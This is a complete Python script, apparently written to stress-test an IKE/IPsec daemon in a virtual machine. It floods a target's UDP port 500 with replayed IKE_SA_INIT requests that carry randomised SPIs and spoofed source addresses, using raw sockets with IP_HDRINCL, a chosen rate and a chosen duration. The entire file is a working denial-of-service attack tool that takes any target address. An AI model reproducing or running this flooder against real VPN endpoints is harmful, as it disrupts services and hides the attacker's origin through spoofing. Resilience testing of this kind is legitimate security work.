#!/usr/bin/env python3
# An IKE_SA_INIT flood at TARGET:500 from spoofed sources (issue 14): the
# first IKE_SA_INIT request in PCAP (a real one, captured off the wire) is
# replayed with a fresh random SPIi each time, from a random address of
# 198.51.100.0/24 or 203.0.113.0/24 (IP_HDRINCL), at RATE datagrams a
# second (0: as fast as the generator can) for SECONDS. Nobody at those
# addresses returns a COOKIE: a flood that costs the flooder nothing.
#   flood_ike.py PCAP TARGET SECONDS RATE
# Prints what it sent, its rate over the whole run and its slowest and
# fastest whole second (the generator's own ceiling in the guest).
import random, socket, struct, sys, time

def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF

def first_ike_sa_init(path):
    """UDP payload of the first IPv4 IKE_SA_INIT request to port 500."""
    with open(path, "rb") as f:
        data = f.read()
    magic = struct.unpack("<I", data[:4])[0]
    end = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    linktype = struct.unpack(end + "I", data[20:24])[0]
    off = 24
    while off + 16 <= len(data):
        _, _, caplen, _ = struct.unpack(end + "IIII", data[off:off + 16])
        pkt = data[off + 16:off + 16 + caplen]
        off += 16 + caplen
        l2 = {1: 14, 113: 16}.get(linktype)  # Ethernet, Linux cooked
        if l2 is None or len(pkt) < l2 + 28 or pkt[l2] >> 4 != 4 or pkt[l2 + 9] != 17:
            continue
        ip = l2 + (pkt[l2] & 0x0F) * 4
        dport = struct.unpack("!H", pkt[ip + 2:ip + 4])[0]
        ike = pkt[ip + 8:]
        # IKE header: SPIr 0, exchange 34 (IKE_SA_INIT), flag I, message ID 0.
        if dport == 500 and len(ike) >= 28 and ike[8:16] == bytes(8) and ike[18] == 34 \
                and ike[19] & 0x08 and ike[20:24] == bytes(4):
            return ike
    sys.exit("no IKE_SA_INIT request in %s" % path)

pcap, target, seconds, rate = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4])
ike = first_ike_sa_init(pcap)
body = ike[8:]
dst = socket.inet_aton(target)
nets = [bytes([198, 51, 100]), bytes([203, 0, 113])]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
rnd = random.Random()  # not os.urandom: every system call is slow in the guest
udp_len = 8 + len(ike)
sent = errors = 0
sources = set()
per_second = []
start = time.monotonic()
end = start + seconds
now = start
while now < end:
    # The clock is read once per batch: it is a system call here too.
    for _ in range(16):
        src = rnd.choice(nets) + bytes([rnd.randint(1, 253)])
        sources.add(src)
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, rnd.getrandbits(16), 0, 64, 17, 0, src, dst)
        hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
        spi = rnd.getrandbits(64).to_bytes(8, "big")
        pkt = hdr + struct.pack("!HHHH", 500, 500, udp_len, 0) + spi + body  # UDP checksum 0: none
        try:
            s.sendto(pkt, (target, 0))
            sent += 1
        except OSError:
            errors += 1
    now = time.monotonic()
    sec = int(now - start)
    while len(per_second) <= sec:
        per_second.append(0)
    per_second[sec] += 16
    if rate > 0:
        ahead = start + sent / rate - now
        if ahead > 0.002:
            time.sleep(ahead)
            now = time.monotonic()
took = now - start
full = per_second[:int(took)] or per_second
print("sent %d spoofed IKE_SA_INIT (%d bytes of IKE each) from %d addresses in %.1f s: %d per second"
      " (asked for %s); slowest second %d, fastest %d; %d send errors"
      % (sent, len(ike), len(sources), took, sent / took, "%d" % rate if rate > 0 else "the most it can",
         min(full), max(full), errors))
